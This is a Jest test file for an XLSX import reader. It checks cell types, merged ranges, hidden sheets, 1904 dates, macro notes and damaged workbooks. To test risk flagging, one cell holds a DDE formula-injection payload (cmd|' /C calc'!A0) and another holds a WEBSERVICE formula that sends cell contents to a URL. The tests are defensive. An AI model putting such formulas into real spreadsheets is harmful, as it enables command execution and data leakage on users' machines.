import ExcelJS from 'exceljs';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { importLimits } from '../import-limits';
import { dateToExcelSerial } from '../cells/excel-serial';
import type { RawCell, RawSheet } from './raw-workbook';
import { readXlsx } from './read-xlsx';

const limits = importLimits();

async function workbookWith(build: (sheet: ExcelJS.Worksheet, workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Plan');
  build(sheet, workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

function cell(sheet: RawSheet, address: string): RawCell | undefined {
  const match = /^([A-Z]+)(\d+)$/.exec(address)!;
  const column = [...match[1]].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0);
  return sheet.rows[Number(match[2])]?.cells[column];
}

describe('readXlsx: every kind of value exceljs returns', () => {
  let sheet: RawSheet;
  beforeAll(async () => {
    const buffer = await workbookWith((s) => {
      s.getCell('A1').value = 'Plain text';
      s.getCell('A2').value = { richText: [{ text: 'All 1,212 concerns reviewed; ', font: { bold: true } }, { text: 'no harm found.' }] };
      s.getCell('A3').value = { text: 'Case review report', hyperlink: 'https://intranet.example/review.pdf' };
      s.getCell('A4').value = { text: { richText: [{ text: 'Rich ' }, { text: 'link' }] } as unknown as string, hyperlink: 'https://intranet.example/x' };
      s.getCell('A5').value = 42.5;
      s.getCell('A6').value = true;
      s.getCell('A7').value = new Date(Date.UTC(2026, 2, 31));
      s.getCell('A8').value = { error: '#REF!' };
      s.getCell('B1').value = { formula: 'IF(A5>1,"On track","Delayed")', result: 'On track' };
      s.getCell('B2').value = { formula: 'A5*2', result: 85 };
      s.getCell('B3').value = { formula: 'DATE(2026,3,31)', result: new Date(Date.UTC(2026, 2, 31)) };
      s.getCell('B4').value = { formula: 'VLOOKUP(A1,Lists!A:B,2,FALSE)', result: { error: '#N/A' } };
      s.getCell('B5').value = { formula: 'HYPERLINK("http://x","click")', result: 'click' };
      s.getCell('B6').value = { formula: 'WEBSERVICE("http://x/?q="&A1)', result: 'response' };
      s.getCell('B7').value = { formula: "cmd|' /C calc'!A0", result: 0 };
      s.getCell('B8').value = { formula: 'A1&" (copy)"' };
      s.getCell('C1').value = 'Rev_x0000_iew'; // how Excel writes a NUL into its XML
      s.getCell('C2').value = 'Red';
      s.getCell('C2').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFF0000' } };
      s.getCell('C3').value = '=HYPERLINK("http://x","typed as text")';
      s.getCell('D1').fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FF00B050' } }; // a RAG colour painted without words
      s.getCell('D2').fill = { type: 'pattern', pattern: 'none' };
    });
    sheet = (await readXlsx(buffer, limits)).sheets[0];
  });

  it.each<[string, Partial<RawCell>]>([
    ['A1', { kind: 'text', text: 'Plain text' }],
    ['A2', { kind: 'text', text: 'All 1,212 concerns reviewed; no harm found.' }],
    ['A3', { kind: 'text', text: 'Case review report', link: 'https://intranet.example/review.pdf' }],
    ['A4', { kind: 'text', text: 'Rich link', link: 'https://intranet.example/x' }],
    ['A5', { kind: 'number', text: '42.5', number: 42.5 }],
    ['A6', { kind: 'boolean', text: 'TRUE' }],
    ['A7', { kind: 'date', text: '2026-03-31', number: dateToExcelSerial('2026-03-31') }],
    ['A8', { kind: 'error', text: '#REF!' }],
    ['B1', { kind: 'text', text: 'On track', formula: { risk: null, functionName: 'IF', hasValue: true } }],
    ['B2', { kind: 'number', text: '85', formula: { risk: null, functionName: null, hasValue: true } }],
    ['B3', { kind: 'date', text: '2026-03-31' }],
    ['B4', { kind: 'error', text: '#N/A', formula: { risk: null, functionName: 'VLOOKUP', hasValue: true } }],
    ['B5', { kind: 'text', text: 'click', link: 'http://x', formula: { risk: 'hyperlink', functionName: 'HYPERLINK', hasValue: true } }],
    ['B6', { kind: 'text', text: 'response', formula: { risk: 'web', functionName: 'WEBSERVICE', hasValue: true } }],
    ['B7', { formula: { risk: 'dde', functionName: null, hasValue: expect.any(Boolean) as boolean } }],
    ['B8', { kind: 'text', text: '', formula: { risk: null, functionName: null, hasValue: false } }],
    ['C1', { kind: 'text', text: 'Review', cleaned: true }],
    ['C2', { kind: 'text', text: 'Red', fill: 'FFFF0000' }],
    ['C3', { kind: 'text', text: '=HYPERLINK("http://x","typed as text")' }],
    ['D1', { kind: 'text', text: '', fill: 'FF00B050' }],
  ])('%s', (address, expected) => {
    expect(cell(sheet, address)).toMatchObject(expected);
  });

  it('keeps no empty cell without a fill', () => {
    expect(cell(sheet, 'D2')).toBeUndefined();
  });

  it('never keeps a formula text', () => {
    expect(JSON.stringify(sheet)).not.toContain('calc');
    expect(JSON.stringify(sheet)).not.toContain('WEBSERVICE("');
  });
});

describe('readXlsx: the shape of sheets', () => {
  it('records merged ranges and leaves their other cells empty', async () => {
    const buffer = await workbookWith((s) => {
      s.mergeCells('A1:E1');
      s.getCell('A1').value = 'Improvement plan';
      s.mergeCells('B3:B5');
      s.getCell('B3').value = 'Finding one';
    });
    const sheet = (await readXlsx(buffer, limits)).sheets[0];
    expect(sheet.merges).toEqual(
      expect.arrayContaining([
        { top: 1, left: 1, bottom: 1, right: 5 },
        { top: 3, left: 2, bottom: 5, right: 2 },
      ]),
    );
    expect(cell(sheet, 'A1')?.text).toBe('Improvement plan');
    expect(cell(sheet, 'B1')).toBeUndefined();
    expect(cell(sheet, 'B4')).toBeUndefined();
    expect(sheet.columnCount).toBe(5);
  });

  it('reads hidden rows, hidden columns and hidden sheets', async () => {
    const buffer = await workbookWith((s, workbook) => {
      s.getCell('A1').value = 'Ref';
      s.getCell('C1').value = 'Notes';
      s.getCell('A2').value = '1.1';
      s.getColumn(3).hidden = true;
      s.getRow(2).hidden = true;
      workbook.addWorksheet('Lists', { state: 'hidden' }).getCell('A1').value = 'x';
      workbook.addWorksheet('Secret', { state: 'veryHidden' }).getCell('A1').value = 'y';
    });
    const workbook = await readXlsx(buffer, limits);
    expect(workbook.sheets.map((s) => [s.name, s.state, s.position])).toEqual([
      ['Plan', 'visible', 1],
      ['Lists', 'hidden', 2],
      ['Secret', 'veryHidden', 3],
    ]);
    expect(workbook.sheets[0].hiddenColumns).toEqual([3]);
    expect(workbook.sheets[0].rows[2]?.hidden).toBe(true);
  });

  it('keeps date cells of a 1904 workbook on the right day', async () => {
    const buffer = await workbookWith((s, workbook) => {
      workbook.properties.date1904 = true;
      s.getCell('A1').value = new Date(Date.UTC(2026, 2, 31));
    });
    const workbook = await readXlsx(buffer, limits);
    expect(workbook.date1904).toBe(true);
    expect(workbook.sheets[0].rows[1]?.cells[1]).toMatchObject({ kind: 'date', number: dateToExcelSerial('2026-03-31') });
  });

  it('notes macros and formulas, and never runs either', async () => {
    const plain = await workbookWith((s) => {
      s.getCell('A1').value = { formula: '1+1', result: 2 };
    });
    const parts = unzipSync(new Uint8Array(plain));
    parts['xl/vbaProject.bin'] = strToU8('not really a VBA project');
    const workbook = await readXlsx(Buffer.from(zipSync(parts)), limits);
    expect(workbook.notes.map((n) => n.code)).toEqual(['macros_ignored', 'formulas_values_used']);
  });

  it('refuses a damaged workbook that passes the zip checks', async () => {
    const plain = await workbookWith((s) => {
      s.getCell('A1').value = 'x';
    });
    const parts = unzipSync(new Uint8Array(plain));
    parts['xl/workbook.xml'] = strToU8('<workbook><sheets><sheet name="Plan" sheetId="1" r:id="rId1"');
    await expect(readXlsx(Buffer.from(zipSync(parts)), limits)).rejects.toMatchObject({ code: 'workbook_unreadable' });
  });
});
